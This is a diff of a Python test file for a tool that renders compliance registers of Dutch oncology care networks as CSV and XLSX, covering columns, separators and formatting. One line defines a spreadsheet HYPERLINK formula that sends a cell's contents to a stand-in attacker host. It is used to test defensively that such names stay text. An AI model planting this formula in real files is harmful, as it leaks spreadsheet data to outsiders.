@@ -23,17 +23,21 @@ from workbook import formulas, opened, rows
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
 IDS = ["1a", "1b", "2a", "2b", "3", "4", "5", "6", "7", "8", "9", "10"]
-HEAD_NL = ["Bestand", "Netwerk", "Oordeel", "Criteriaversie", "Peildatum", *IDS,
+HEAD_NL = ["Bestand", "Netwerk", "Oordeel", "Fouten", "Eerste fout", "Criteriaversie",
+           "Peildatum", "Peildatum volgens", *IDS,
            "Aandeel Verwijsgids (2a)", "Aantal waarschuwingen", "Soorten waarschuwing",
            "SHA-256 netwerkbestand"]
-HEAD_EN = ["File", "Network", "Verdict", "Criteria version", "As of", *IDS,
+HEAD_EN = ["File", "Network", "Verdict", "Errors", "First error", "Criteria version", "As of",
+           "As of from", *IDS,
            "Verwijsgids share (2a)", "Number of warnings", "Warning ids", "Network file SHA-256"]
 CSS = ROOT / "src/oncocheck/render/templates/style.css"
 
 
-def _csv_rows(text: str) -> list[list[str]]:
+def _csv_rows(text: str, lang: str = "en") -> list[list[str]]:
+    """The rows as a reader set to the language's separator reads them (`;` in Dutch)."""
     assert text.startswith("\ufeff")
-    return list(csv.reader(io.StringIO(text[1:], newline=""), strict=True))
+    return list(csv.reader(io.StringIO(text[1:], newline=""), strict=True,
+                           delimiter=";" if lang == "nl" else ","))
 
 
 # -- CSV ------------------------------------------------------------------------------------
@@ -43,19 +47,24 @@ def test_csv_has_a_header_and_a_row_per_file(report, lang: str, head: list[str])
     text = render(report, "csv", lang)
     assert text.startswith("\ufeff") and text.count("\r\n") == 4 and "\n" not in text.replace(
         "\r\n", "")
-    table = _csv_rows(text)
+    table = _csv_rows(text, lang)
     assert table[0] == head and all(len(row) == len(head) for row in table)
     good, bad, invalid = table[1:]
     sha = report.results[0].inputs[0].sha256
-    assert good[:5] == ["examples/compliant/voorbeeldstad.yaml",
+    assert good[:8] == ["examples/compliant/voorbeeldstad.yaml",
                         "Oncologiezorgnetwerk Voorbeeldstad", "Voldoet" if lang == "nl"
-                        else "Compliant", "loppsoz@2024", "2026-11-23"]
-    assert good[-4:] == ["0.636", "0", "", sha]
-    assert bad[6] == ("niet voldaan" if lang == "nl" else "not met")  # 1b
-    assert bad[13] == ("ontbreekt" if lang == "nl" else "missing")  # 7
+                        else "Compliant", "", "", "loppsoz@2024", "2026-11-23", ""]
+    assert good[-4:] == ["0,636" if lang == "nl" else "0.636", "0", "", sha]
+    assert bad[9] == ("niet voldaan" if lang == "nl" else "not met")  # 1b
+    assert bad[16] == ("ontbreekt" if lang == "nl" else "missing")  # 7
     assert bad[-3:-1] == ["1", "duplicate-member"]
     assert invalid[2] == ("Ongeldig" if lang == "nl" else "Invalid")
-    assert invalid[3:-4] == [""] * 14 and invalid[-1] == report.results[2].inputs[0].sha256
+    # an invalid file says why: how many load errors, and the first, where and what
+    assert invalid[3] == "1" and invalid[4] == "examples/invalid/typo.yaml:40:17: " + (
+        "members[2].discipline: onbekende discipline 'dietis'; bedoelt u 'dietist'?"
+        if lang == "nl" else "members[2].discipline: unknown discipline 'dietis'; did you mean "
+        "'dietist'?")
+    assert invalid[5:-4] == [""] * 15 and invalid[-1] == report.results[2].inputs[0].sha256
 
 
 def test_a_formula_looking_name_stays_text_in_csv() -> None:
@@ -101,11 +110,12 @@ def test_xlsx_has_the_register_and_the_criteria(book: bytes) -> None:
     assert workbook.sheetnames == ["Register", "Criteria"]
     table = rows(book)
     assert table[0] == HEAD_NL and len(table) == 4
-    assert table[1][:5] == ["examples/compliant/voorbeeldstad.yaml",
-                            "Oncologiezorgnetwerk Voorbeeldstad", "Voldoet", "loppsoz@2024",
-                            datetime(2026, 11, 23)]
-    assert table[3][2] == "Ongeldig" and table[3][3:-1] == [None, None, *[None] * 12, None, 0,
-                                                             None]
+    assert table[1][:8] == ["examples/compliant/voorbeeldstad.yaml",
+                            "Oncologiezorgnetwerk Voorbeeldstad", "Voldoet", None, None,
+                            "loppsoz@2024", datetime(2026, 11, 23), None]
+    assert table[3][2:5] == ["Ongeldig", 1, "examples/invalid/typo.yaml:40:17: members[2]."
+                             "discipline: onbekende discipline 'dietis'; bedoelt u 'dietist'?"]
+    assert table[3][5:-1] == [None, None, None, *[None] * 12, None, 0, None]
     criteria = rows(book, "Criteria")
     assert criteria[0] == ["Versie", "ID", "Titel", "Tekst", "Ernst"]
     assert criteria[1] == ["loppsoz@2024", "1a", "Multidisciplinair", "Tekst 1a.", "fout"]
@@ -115,19 +125,19 @@ def test_xlsx_has_the_register_and_the_criteria(book: bytes) -> None:
 def test_xlsx_in_english() -> None:
     data = render(sample_report(), "xlsx", "en")
     table = rows(data)
-    assert table[0] == HEAD_EN and table[2][2] == "Not compliant" and table[2][6] == "not met"
+    assert table[0] == HEAD_EN and table[2][2] == "Not compliant" and table[2][9] == "not met"
     assert rows(data, "Criteria")[0] == ["Version", "ID", "Title", "Text", "Severity"]
 
 
 def test_xlsx_is_laid_out_for_a_reviewer(book: bytes) -> None:
     register = opened(book)["Register"]
     assert register.freeze_panes == "A2"
-    assert register.auto_filter.ref == "A1:U4"
+    assert register.auto_filter.ref == "A1:X4"
     assert register.column_dimensions["A"].width == 42
-    assert register.column_dimensions["U"].width == 68  # a SHA-256 fits
+    assert register.column_dimensions["X"].width == 68  # a SHA-256 fits
     assert all(c.font.bold for c in register[1])
-    assert register["E2"].is_date and register["E2"].number_format == "yyyy-mm-dd"
-    share = register["R2"]
+    assert register["G2"].is_date and register["G2"].number_format == "yyyy-mm-dd"
+    share = register["U2"]
     assert share.data_type == "n" and share.number_format == "0.0%"
     assert share.value == pytest.approx(7 / 11)
     assert opened(book)["Criteria"].freeze_panes == "A2"
@@ -143,10 +153,10 @@ def test_statuses_and_verdicts_have_their_colours(book: bytes) -> None:
     assert _colour(register["C2"]) == expected["met"]  # Voldoet
     assert _colour(register["C3"]) == expected["not_met"]  # Voldoet niet
     assert _colour(register["C4"]) == expected["invalid"]
-    assert register["G3"].value == "niet voldaan" and _colour(register["G3"]) == expected[
+    assert register["J3"].value == "niet voldaan" and _colour(register["J3"]) == expected[
         "not_met"]
-    assert register["N3"].value == "ontbreekt" and _colour(register["N3"]) == expected["missing"]
-    assert register["F2"].value == "voldaan" and _colour(register["F2"]) == expected["met"]
+    assert register["Q3"].value == "ontbreekt" and _colour(register["Q3"]) == expected["missing"]
+    assert register["I2"].value == "voldaan" and _colour(register["I2"]) == expected["met"]
 
 
 def _luminance(rgb: str) -> float:
@@ -200,3 +210,42 @@ def test_an_all_invalid_batch_still_has_the_criteria_columns(report) -> None:  #
 def test_the_as_of_date_of_the_archive_is_the_reports(report) -> None:  # noqa: ANN001
     other = replace(report, as_of=date(2027, 1, 5))
     assert opened(render(other, "xlsx", "en")).properties.created == datetime(2027, 1, 5)
+
+
+def test_the_dutch_csv_opens_in_columns_in_a_dutch_excel(report) -> None:  # noqa: ANN001
+    """Issue 23.8: Excel with Dutch regional settings splits a double-clicked CSV at `;` and
+    reads `0,636` as a number; an English one at `,` with `0.636`."""
+    nl = render(report, "csv", "nl").encode("utf-8")
+    assert nl.startswith(b'\xef\xbb\xbf"Bestand";"Netwerk";"Oordeel";"Fouten";"Eerste fout";')
+    good = nl.split(b"\r\n")[1]
+    assert b";0,636;0;;" in good and b"," not in good.replace(b"0,636", b"")
+    en = render(report, "csv", "en").encode("utf-8")
+    assert en.startswith(b'\xef\xbb\xbf"File","Network","Verdict","Errors","First error",')
+    assert b",0.636,0,," in en.split(b"\r\n")[1]
+
+
+def test_an_invalid_file_counts_its_errors_past_the_cap(report) -> None:  # noqa: ANN001
+    from oncocheck.errors import LoadFailed
+
+    invalid = report.results[2]
+    many = LoadFailed([invalid.errors[0]] * 100, omitted=250).errors
+    row = _csv_rows(render(replace(report, results=(replace(invalid, errors=tuple(many)),)),
+                           "csv", "en"))[1]
+    assert row[3] == "350" and row[4].endswith("did you mean 'dietist'?")
+
+
+@pytest.mark.parametrize("lang, words", [
+    ("nl", ["submitted:", "dag van de controle (geen submitted:)", "opgegeven (--as-of)"]),
+    ("en", ["submitted:", "day of the run (no submitted:)", "given (--as-of)"])])
+def test_the_register_says_what_gave_each_as_of_date(report, lang: str,  # noqa: ANN001
+                                                      words: list[str]) -> None:
+    """Issue 23.10: a file judged on the day of the run because it has no `submitted:` date
+    is marked in both registers."""
+    from oncocheck.report import Dated
+
+    good, bad, invalid = report.results
+    dated = (replace(good, dated=Dated.SUBMITTED), replace(bad, dated=Dated.TODAY),
+             replace(good, dated=Dated.AS_OF), invalid)
+    marked = replace(report, results=dated)
+    assert [r[7] for r in _csv_rows(render(marked, "csv", lang), lang)[1:]] == [*words, ""]
+    assert [r[7] for r in rows(render(marked, "xlsx", lang))[1:]] == [*words, None]
